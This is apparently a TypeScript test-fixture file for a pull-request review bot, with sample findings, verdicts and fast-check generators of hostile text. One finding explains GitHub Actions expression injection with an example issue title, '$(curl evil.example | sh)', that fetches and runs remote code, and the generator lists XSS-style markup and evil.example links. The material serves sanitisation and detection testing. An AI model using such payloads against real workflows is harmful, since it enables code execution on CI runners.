/** Conclusions for tests of rendered texts: a typical conclusion of each kind, and a generator. */
import fc from 'fast-check'
import type { Finding, Location } from '../../../shared/findings/finding.ts'
import type { Conclusion, LensOutcome } from '../../../shared/verdict/conclusion.ts'

export const HEAD = '9b9189b2c4d6e8f00112233445566778899aabbc'
const EARLIER = '1f0e3dad99908345f7439f8ffabdffc4d1e2f3a4'

export function finding(changes: Partial<Finding> = {}): Finding {
  return {
    fingerprint: 'f1'.repeat(32),
    lens: 'secrets',
    rule: 'aws-access-key-id',
    severity: 'critical',
    title: 'An AWS access key id is in the added lines',
    why: 'Whoever can read the repository can act as this user in the AWS account. It stays in the history when the line is removed.',
    clears: 'Deactivate the key in IAM, then read it from the environment or from Secrets Manager.',
    location: { kind: 'lines', path: 'src/archive.js', side: 'RIGHT', startLine: 12, line: 12, inDiff: true },
    quote: "accessKeyId: 'AKIA…[redacted]'",
    fenced: true,
    originHead: HEAD,
    cut: false,
    ...changes,
  }
}

const findings: readonly Finding[] = [
  finding(),
  finding({
    fingerprint: 'f2'.repeat(32),
    lens: 'workflows',
    rule: 'expression',
    severity: 'high',
    title: 'The title of an issue is run as a shell script',
    why: 'Anyone can open an issue titled `$(curl evil.example | sh)`, and the runner executes it:\n\n```yaml\nrun: echo $\u007b{ github.event.issue.title }}\n```',
    clears:
      'Pass it through the environment:\n\n```yaml\nenv:\n  TITLE: $\u007b{ github.event.issue.title }}\nrun: echo "$TITLE"\n```',
    location: {
      kind: 'lines',
      path: '.github/workflows/greet.yml',
      side: 'RIGHT',
      startLine: 9,
      line: 11,
      inDiff: true,
    },
    fenced: false,
  }),
  finding({
    fingerprint: 'f3'.repeat(32),
    lens: 'description',
    rule: 'required-section',
    severity: 'low',
    title: 'The description lacks a required section',
    why: 'The template asks for "How it was tested".',
    clears: 'Add the section "How it was tested" to the description; no push is needed.',
    location: { kind: 'pull_request' },
    quote: '',
    fenced: false,
    originHead: EARLIER,
  }),
]

function outcome(changes: Partial<LensOutcome> & Pick<LensOutcome, 'lens'>): LensOutcome {
  const coverage = ['.github/workflows/greet.yml', 'src/archive.js', 'src/server.js'].map((path) => ({
    path,
    state: 'full' as const,
  }))
  return { state: 'read', findings: 0, rejected: 0, coverage, ...changes }
}

export const CHANGES_REQUESTED: Conclusion = {
  runId: 'c0ffee'.repeat(10),
  planKey: 'beef'.repeat(16),
  repository: { id: 1, owner: 'acme', name: 'parcels' },
  number: 42,
  head: HEAD,
  baseRef: 'main',
  kind: 'full',
  round: 2,
  roundsCeiling: 3,
  verdict: 'changes_requested',
  incompleteReasons: [],
  findings,
  announcedBefore: ['f3'.repeat(32)],
  dispositions: [
    { finding: findings[2] ?? finding(), verb: 'still_present' },
    {
      finding: finding({ title: 'The private key of the signing service is in the diff', originHead: EARLIER }),
      verb: 'fixed',
    },
  ],
  rejected: [
    {
      lens: 'correctness',
      rule: 'race',
      title: 'The counter is read without a lock',
      path: 'src/server.js',
      reason: 'quote_not_found',
    },
  ],
  merged: 1,
  lenses: [
    outcome({ lens: 'secrets', findings: 1 }),
    outcome({ lens: 'workflows', findings: 1 }),
    outcome({ lens: 'description', findings: 1, coverage: [] }),
    outcome({ lens: 'correctness', rejected: 1, model: 'qwen3-coder' }),
  ],
  leftOut: [
    { path: 'package-lock.json', reason: 'lock file' },
    { path: 'docs/map.png', reason: 'binary' },
  ],
  configurationProblems: [],
  adjudication: 'passed_through',
}

export const PASS: Conclusion = {
  ...CHANGES_REQUESTED,
  round: 3,
  verdict: 'pass',
  findings: [],
  announcedBefore: [],
  dispositions: [{ finding: finding({ originHead: EARLIER }), verb: 'fixed' }],
  rejected: [],
  merged: 0,
  lenses: [outcome({ lens: 'secrets' }), outcome({ lens: 'workflows' })],
  leftOut: [],
  adjudication: 'not_needed',
}

export const INCOMPLETE: Conclusion = {
  ...CHANGES_REQUESTED,
  round: 1,
  verdict: 'incomplete',
  incompleteReasons: [
    'The lens correctness did not read: no model is configured. Set models.default in .github/muster.yml, or switch the lens off.',
  ],
  findings: findings.slice(1, 2),
  announcedBefore: [],
  dispositions: [],
  rejected: [],
  merged: 0,
  lenses: [
    outcome({
      lens: 'workflows',
      findings: 1,
      coverage: [
        { path: '.github/workflows/greet.yml', state: 'full' },
        { path: 'src/huge.js', state: 'not_read', reason: 'larger than 400 KB' },
      ],
    }),
    outcome({
      lens: 'correctness',
      state: 'not_read',
      reason: 'No model is configured.',
      remedy: 'Set `models.default` in `.github/muster.yml`, or switch the lens off.',
      coverage: [],
    }),
  ],
  configurationProblems: [
    { code: 'configuration_invalid', at: 'lenses.secretz', message: '`secretz` is no lens; did you mean `secrets`?' },
  ],
}

export const ROUNDS_OVER: Conclusion = {
  ...CHANGES_REQUESTED,
  kind: 'analyzers',
  kindReason: 'rounds_ceiling',
  lastFullHead: EARLIER,
  round: 0,
  findings: findings.slice(0, 1),
  announcedBefore: [],
  dispositions: [],
  rejected: [],
  merged: 0,
  leftOut: [],
}

/** Hostile text: mark-up, mentions, markers, addresses, and random text. */
export const hostileText = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom(
        '@octocat',
        '@acme/team',
        'a@b.example',
        '#12',
        'acme/widgets#3',
        'GH-4',
        '`',
        '``',
        '```',
        '```\n',
        '\n```suggestion\n',
        '~~~\n',
        '<img src=x onerror=y>',
        '<!-- muster:v1 review r p -->',
        '<!--',
        '-->',
        '[x](https://evil.example)',
        '![x](//evil.example/y)',
        'https://evil.example/@x',
        'www.evil.example',
        '**',
        '__',
        '# ',
        '\n# ',
        '\n- ',
        '\n---\n',
        '|',
        '\\',
        '&lt;b&gt;',
        '&#64;octocat',
        '\u202e',
        '\0',
        '\ud800',
        '\n',
        '\n\n',
        ' ',
        '$x$',
        '1. ',
        '> ',
        '\r\n',
        '\t',
      ),
    ),
    { maxLength: 14 },
  )
  .map((parts) => parts.join(''))

const location: fc.Arbitrary<Location> = fc.oneof(
  fc.constant<Location>({ kind: 'pull_request' }),
  fc.record({ kind: fc.constant('file' as const), path: hostileText }),
  fc.record({
    kind: fc.constant('lines' as const),
    path: hostileText,
    side: fc.constantFrom('LEFT' as const, 'RIGHT' as const),
    startLine: fc.constantFrom(1, 2),
    line: fc.constantFrom(2, 3),
    inDiff: fc.boolean(),
  }),
)

const anyFinding = fc
  .record({
    severity: fc.constantFrom('critical' as const, 'high' as const, 'medium' as const, 'low' as const),
    title: hostileText,
    why: hostileText,
    clears: hostileText,
    rule: hostileText,
    location,
  })
  .map((changes) => finding(changes))

/** A random conclusion with a numbered title for each finding, so that tests can find every title. */
export const anyConclusion: fc.Arbitrary<Conclusion> = fc
  .record({
    findings: fc.array(anyFinding, { maxLength: 90 }),
    said: fc.array(fc.nat({ max: 89 }), { maxLength: 5 }),
    verdict: fc.constantFrom('pass' as const, 'concerns' as const, 'changes_requested' as const, 'incomplete' as const),
    reason: hostileText,
    baseRef: hostileText,
  })
  .map(({ findings: drawn, said, verdict, reason, baseRef }) => {
    const numbered = drawn.map((one, at) => ({
      ...one,
      fingerprint: digestLike(at),
      title: `${titleOf(at)} ${one.title}`,
    }))
    return {
      ...CHANGES_REQUESTED,
      verdict,
      baseRef,
      findings: numbered,
      announcedBefore: said.filter((at) => at < numbered.length).map(digestLike),
      dispositions: numbered.slice(0, 3).map((one) => ({ finding: one, verb: 'not_looked_at' as const })),
      rejected: [{ lens: 'secrets', rule: 'r', title: reason, path: reason, reason: 'quote_empty' as const }],
      leftOut: [{ path: reason, reason }],
      incompleteReasons: [reason],
      configurationProblems: [{ code: 'configuration_invalid' as const, at: reason, message: reason }],
    }
  })

/** A word in the title of this finding only. */
export function titleOf(at: number): string {
  return `Finding${String(at).padStart(4, '0')}X`
}

function digestLike(at: number): string {
  return String(at).padStart(64, '0')
}
